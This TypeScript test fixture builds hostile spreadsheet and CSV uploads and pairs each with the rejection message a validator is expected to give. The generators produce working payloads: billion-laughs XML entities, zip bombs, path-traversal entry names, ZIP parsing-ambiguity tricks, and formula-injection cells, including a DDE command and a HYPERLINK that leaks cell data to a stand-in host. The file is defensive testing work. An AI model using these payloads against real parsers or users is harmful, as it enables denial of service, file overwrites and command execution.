import { crc32, deflateRawSync } from 'node:zlib'
import {
  behindOtherBytes,
  emptyByDirectory,
  hiddenBehindZip64,
  hiddenInComment,
  overlapping,
  sizedByZip64,
  storedByHeader,
  withBytesBehindPart,
  withGap,
} from './two-readings.ts'

/** A part of an archive, and what its headers say otherwise than is true. */
export interface Part {
  readonly name: string
  readonly content: string | Buffer
  readonly declaredSize?: number
  readonly localName?: string
  readonly flags?: number
  readonly method?: number
  readonly checkSum?: number
}

/** Packs parts into a ZIP archive as they are told, without asking whether that makes sense. */
export function archive(parts: readonly Part[]): Buffer {
  const bodies: Buffer[] = []
  const directory: Buffer[] = []
  let offset = 0
  for (const { name, content, declaredSize, localName = name, flags = 0, method = 8, checkSum } of parts) {
    const raw = Buffer.from(content)
    const sum = checkSum ?? crc32(raw)
    const packed = deflateRawSync(raw, { level: 6 })
    const size = declaredSize ?? raw.length
    const local = Buffer.alloc(30)
    local.writeUInt32LE(0x04034b50, 0)
    local.writeUInt16LE(20, 4)
    local.writeUInt16LE(flags, 6)
    local.writeUInt16LE(method, 8)
    local.writeUInt32LE(sum, 14)
    local.writeUInt32LE(packed.length, 18)
    local.writeUInt32LE(size, 22)
    local.writeUInt16LE(Buffer.byteLength(localName), 26)
    const entry = Buffer.alloc(46)
    entry.writeUInt32LE(0x02014b50, 0)
    entry.writeUInt16LE(20, 4)
    entry.writeUInt16LE(20, 6)
    entry.writeUInt16LE(flags, 8)
    entry.writeUInt16LE(method, 10)
    entry.writeUInt32LE(sum, 16)
    entry.writeUInt32LE(packed.length, 20)
    entry.writeUInt32LE(size, 24)
    entry.writeUInt16LE(Buffer.byteLength(name), 28)
    entry.writeUInt32LE(offset, 42)
    bodies.push(local, Buffer.from(localName), packed)
    directory.push(entry, Buffer.from(name))
    offset += 30 + Buffer.byteLength(localName) + packed.length
  }
  const listing = Buffer.concat(directory)
  const end = Buffer.alloc(22)
  end.writeUInt32LE(0x06054b50, 0)
  end.writeUInt16LE(parts.length, 8)
  end.writeUInt16LE(parts.length, 10)
  end.writeUInt32LE(listing.length, 12)
  end.writeUInt32LE(offset, 16)
  return Buffer.concat([...bodies, listing, end])
}

const XML = '<?xml version="1.0" encoding="UTF-8"?>'
const FORMATS = 'http://schemas.openxmlformats.org'
const TYPES = 'application/vnd.openxmlformats-officedocument.spreadsheetml'
const SHEET = 'xl/worksheets/sheet1.xml'

const FRAME: readonly Part[] = [
  {
    name: '[Content_Types].xml',
    content: `${XML}<Types xmlns="${FORMATS}/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/xl/workbook.xml" ContentType="${TYPES}.sheet.main+xml"/><Override PartName="/${SHEET}" ContentType="${TYPES}.worksheet+xml"/></Types>`,
  },
  {
    name: '_rels/.rels',
    content: `${XML}<Relationships xmlns="${FORMATS}/package/2006/relationships"><Relationship Id="rId1" Type="${FORMATS}/officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/></Relationships>`,
  },
  {
    name: 'xl/workbook.xml',
    content: `${XML}<workbook xmlns="${FORMATS}/spreadsheetml/2006/main" xmlns:r="${FORMATS}/officeDocument/2006/relationships"><sheets><sheet name="s" sheetId="1" r:id="rId1"/></sheets></workbook>`,
  },
  {
    name: 'xl/_rels/workbook.xml.rels',
    content: `${XML}<Relationships xmlns="${FORMATS}/package/2006/relationships"><Relationship Id="rId1" Type="${FORMATS}/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/><Relationship Id="rId2" Type="${FORMATS}/officeDocument/2006/relationships/sharedStrings" Target="sharedStrings.xml"/></Relationships>`,
  },
]

const sheet = (rows: string, before = ''): Part => ({
  name: SHEET,
  content: `${XML}${before}<worksheet xmlns="${FORMATS}/spreadsheetml/2006/main"><sheetData>${rows}</sheetData></worksheet>`,
})

const text = (cell: string, value: string) => `<c r="${cell}" t="inlineStr"><is><t>${value}</t></is></c>`
const row = (line: number, cells: string) => `<row r="${line}">${cells}</row>`
const HEADER = row(1, text('A1', 'account_number') + text('B1', 'symbol') + text('C1', 'shares'))

/** A workbook of one sheet with these rows, and further parts. */
export const workbook = (rows: string, ...others: readonly Part[]) =>
  archive([...FRAME, sheet(rows), ...others])

const rowsOf = (count: number) => {
  const rows = [HEADER]
  for (let line = 2; line <= count; line += 1) rows.push(row(line, `<c r="A${line}"/>`))
  return rows.join('')
}

/** Shared texts that are so many spaces. */
const texts = (bytes: number): Part => ({ name: 'xl/sharedStrings.xml', content: Buffer.alloc(bytes, ' ') })

const entities = () => {
  const names = Array.from(
    { length: 9 },
    (_, index) => `<!ENTITY l${index + 1} "${`&l${index};`.repeat(10)}">`,
  )
  return `<!DOCTYPE z [<!ENTITY l0 "lol">${names.join('')}]>`
}

const noise = (bytes: number) => {
  let state = 1
  // Enough disorder to pass for a real part: it grows less than a limit of growth catches.
  return Array.from({ length: bytes / 8 }, () => {
    state = (state * 48_271) % 2_147_483_647
    return state.toString(36).padStart(8, '0')
  }).join('')
}

/** A bomb that stays within what a directory may declare, and makes work for whoever reads it: 400,000 rows in 40 MB. */
export function quietBomb(): Buffer {
  const rows: string[] = [HEADER]
  for (let line = 2; line < 400_000; line += 1) {
    const value = (line * 48_271) % 9_973
    rows.push(`<row r="${line}"><c r="A${line}"><v>${value}</v></c><c r="B${line}"><v>${value}</v></c></row>`)
  }
  return workbook(rows.join(''))
}

/** What a spreadsheet would run: as a cell begins with a sign of its own, a tab, a carriage return, or a full-width sign. */
const FORMULAS = [
  '=1+1',
  '=HYPERLINK("http://x/?"&A1,"c")',
  '+1+1',
  '-1+1',
  '@SUM(1)',
  '\t=1+1',
  '\r=1+1',
  "=cmd|'/C calc'!A0",
  '＝1+1',
  '\u202e=1',
]

/** Hostile files: each with what is wrong, and the beginning of what is said of it. */
export const HOSTILE: readonly (readonly [name: string, make: () => Buffer, problem: string])[] = [
  [
    'a thousand million laughs',
    () => archive([...FRAME, sheet(row(1, text('A1', '&l9;')), entities())]),
    'a part of the workbook declares a document type',
  ],
  [
    'a sheet of 60 MB in 60 kB',
    () => workbook(' '.repeat(60_000_000)),
    'a part of the workbook grows too much',
  ],
  [
    'two parts of 6 MB',
    () =>
      workbook(
        HEADER,
        ...Array.from({ length: 2 }, (_, index) => ({
          name: `x${index}.bin`,
          content: noise(6_000_000),
        })),
      ),
    'the workbook is too large',
  ],
  [
    '60 MB inside, in small parts',
    () =>
      workbook(
        HEADER,
        ...Array.from({ length: 60 }, (_, index) => ({
          name: `x${index}.xml`,
          content: ' '.repeat(1_000_000),
        })),
      ),
    'the workbook is too large inside',
  ],
  [
    'a part that says 100 bytes and is 40 MB',
    () => archive([...FRAME, { ...sheet(' '.repeat(40_000_000)), declaredSize: 100 }]),
    'a part of the workbook is broken, or larger than it says',
  ],
  [
    'a part that says more than it is',
    () => archive([...FRAME, { ...sheet(HEADER), declaredSize: 5_000 }]),
    'a part of the workbook is not of the size that it says',
  ],
  [
    '201 parts',
    () => workbook(HEADER, ...Array.from({ length: 200 }, (_, index) => ({ name: `${index}`, content: '' }))),
    'the workbook has too many parts',
  ],
  [
    'a part twice',
    () => archive([...FRAME, sheet(HEADER), sheet(row(1, text('A1', 'other')))]),
    'a part of the workbook is there twice',
  ],
  [
    'a part twice, in other letters',
    () => workbook(HEADER, { name: SHEET.toUpperCase(), content: 'x' }),
    'a part of the workbook is there twice',
  ],
  [
    'a part of two names',
    () => workbook(HEADER, { name: 'a.xml', localName: 'b.xml', content: 'x' }),
    'a part of the workbook has two names',
  ],
  [
    'a part above its folder',
    () => workbook(HEADER, { name: '../../slip.txt', content: 'x' }),
    'a part of the workbook leads out of it',
  ],
  [
    'a part of another drive',
    () => workbook(HEADER, { name: 'C:\\slip.txt', content: 'x' }),
    'a part of the workbook leads out of it',
  ],
  [
    'a part with a password',
    () => workbook(HEADER, { name: 'a.xml', content: 'x', flags: 1 }),
    'the workbook is protected by a password',
  ],
  [
    'a part packed otherwise',
    () => workbook(HEADER, { name: 'a.xml', content: 'x', method: 12 }),
    'a part of the workbook is packed in an unknown way',
  ],
  [
    'a part that is not packed as it says',
    () => workbook(HEADER, { name: 'a.xml', content: 'x', method: 0 }),
    'a part of the workbook is not of the size that it says',
  ],
  [
    'another workbook behind a 64-bit directory',
    () => hiddenBehindZip64(workbook(HEADER), workbook(rowsOf(3))),
    'the archive of the workbook could be read in two ways',
  ],
  [
    '200 MB of texts behind a 64-bit directory',
    () => hiddenBehindZip64(workbook(HEADER), workbook(HEADER, texts(200_000_000))),
    'the archive of the workbook could be read in two ways',
  ],
  [
    'another workbook behind an end in a comment',
    () => hiddenInComment(workbook(HEADER), workbook(rowsOf(3))),
    'the archive of the workbook could be read in two ways',
  ],
  [
    'an archive behind other bytes',
    () => behindOtherBytes(workbook(rowsOf(3))),
    'the archive of the workbook could be read in two ways',
  ],
  [
    'a gap behind the directory',
    () => withGap(workbook(rowsOf(3))),
    'the archive of the workbook could be read in two ways',
  ],
  [
    'texts that are empty by the directory and 40 MB by their header',
    () => emptyByDirectory(workbook(HEADER, texts(40_000_000))),
    'a part of the workbook could be read in two ways',
  ],
  [
    'a part that is stored by its header and packed by the directory',
    () => storedByHeader(workbook(rowsOf(3))),
    'a part of the workbook could be read in two ways',
  ],
  [
    'a part whose size stands in a 64-bit field',
    () => sizedByZip64(workbook(rowsOf(3))),
    'a part of the workbook could be read in two ways',
  ],
  [
    'two parts in the same bytes',
    () => overlapping(workbook(rowsOf(3))),
    'the parts of the workbook lie over one another',
  ],
  [
    'bytes behind the end of what a part packs',
    () => withBytesBehindPart(workbook(rowsOf(3))),
    'a part of the workbook is not of the size that it says',
  ],
  [
    'a part that is not what its check sum says',
    () => workbook(HEADER, { name: 'a.xml', content: 'x', checkSum: 1 }),
    'a part of the workbook is broken',
  ],
  [
    'an archive that was cut off',
    () => workbook(HEADER).subarray(0, 700),
    'the workbook is cut off or broken',
  ],
  [
    'an archive without its beginning',
    () => Buffer.concat([Buffer.from('PK'), workbook(HEADER).subarray(400)]),
    'the archive of the workbook could be read in two ways',
  ],
  ['nothing but an end', () => archive([]), 'the workbook cannot be read'],
  [
    'an archive that is no workbook',
    () => archive([{ name: 'notes.txt', content: 'x' }]),
    'the workbook cannot be read',
  ],
  [
    'a sheet that is no XML by its name, and declares a document type',
    () =>
      archive([
        ...FRAME.slice(0, 3),
        { ...FRAME[3]!, content: String(FRAME[3]!.content).replace('sheet1.xml', 'sheet1.dat') },
        { ...sheet(HEADER, entities()), name: SHEET.replace('.xml', '.dat') },
      ]),
    'the workbook cannot be read',
  ],
  ['a workbook without its sheet', () => archive(FRAME), 'the workbook cannot be read'],
  ['an empty sheet', () => workbook(''), 'the first sheet is empty'],
  ['broken XML', () => workbook('<row><c><v>1</row'), ''],
  [
    'a cell at the far corner',
    () => workbook(row(1_048_576, '<c r="XFD1048576"><v>1</v></c>')),
    'there are too many columns',
  ],
  ['101 columns', () => workbook(row(1, '<c><v>1</v></c>'.repeat(101))), 'there are too many columns'],
  [
    'a million cells in a row',
    () => workbook(row(1, Array.from({ length: 400_000 }, (_, index) => `<c><v>${index}</v></c>`).join(''))),
    '',
  ],
  ['50,001 rows', () => workbook(rowsOf(50_001)), 'there are too many rows'],
  ['400,000 small rows', quietBomb, 'shares is empty'],
  ['60,000 empty rows', () => workbook(rowsOf(60_000)), 'there are too many rows'],
  ['tags within tags', () => workbook('<a>'.repeat(100_000)), ''],
  ['a text of 30 MB', () => workbook(row(1, text('A1', noise(1_000_000).repeat(30)))), ''],
  [
    'a number beyond all',
    () => workbook(HEADER + row(2, '<c r="A2"><v>1e999</v></c>')),
    'a cell is no number that can be written down',
  ],
  [
    'no number',
    () => workbook(HEADER + row(2, text('A2', '1') + text('B2', 'VTI') + '<c r="C2"><v>NaN</v></c>')),
    'shares is not a number',
  ],
  [
    'an absurd number',
    () => workbook(HEADER + row(2, text('A2', '1') + text('B2', 'VTI') + '<c r="C2"><v>-1e308</v></c>')),
    'shares is not a number',
  ],
  [
    'a number in sixteen',
    () => Buffer.from('account_number,symbol,shares\n1001,VTI,0x10\n'),
    'shares is not a number',
  ],
  [
    'a space that breaks no line',
    () => Buffer.from('account_number,symbol,shares\n1001,VTI,1\u00a0000\n'),
    'shares is not a number',
  ],
  [
    'a decimal comma',
    () => Buffer.from('account_number,symbol,shares\n1001,VTI,"1,5"\n'),
    'shares is not a number',
  ],
  [
    'a text that turns around',
    () => Buffer.from('account_number,symbol,shares\n1001,V\u202eTI,1\n'),
    'symbol is no symbol',
  ],
  ...FORMULAS.map(
    (formula) =>
      [
        `the formula ${JSON.stringify(formula)} for a symbol`,
        () => Buffer.from(`account_number,symbol,shares\n1001,"${formula.replaceAll('"', '""')}",1\n`),
        'symbol is no symbol',
      ] as const,
  ),
  ...['VTI', 'vti', ' VTI ', 'VTＩ', '\u00a0ＶＴＩ'].map(
    (ticker) =>
      [
        `one symbol twice, the second time as ${JSON.stringify(ticker)}`,
        () => Buffer.from(`account_number,symbol,shares\n1001,VTI,14\n1001,${ticker},1\n`),
        'the position stands already on line 2',
      ] as const,
  ),
  [
    'a formula for an account',
    () => Buffer.from('account_number,symbol,shares\n"=HYPERLINK(""http://x"")",VTI,1\n'),
    'account_number is no account number',
  ],
  [
    '20,000 columns',
    () => Buffer.from(`${Array.from({ length: 20_000 }, (_, index) => `c${index}`).join()}\n`),
    'the record is too long',
  ],
  [
    'a field of 10 MB',
    () => Buffer.from(`account_number,symbol,shares\n"${'A'.repeat(10_000_000)}",VTI,1\n`),
    'a quote is opened and not closed in time',
  ],
  ['a NUL', () => Buffer.from('account_number,symbol,shares\n1001,V\0TI,1\n'), 'there is a NUL'],
  ['half a UTF-16 file', () => Buffer.from([0xff, 0xfe, 0x41]), ''],
  [
    'a workbook of 1997',
    () => Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]),
    'the file is an old Excel workbook',
  ],
]
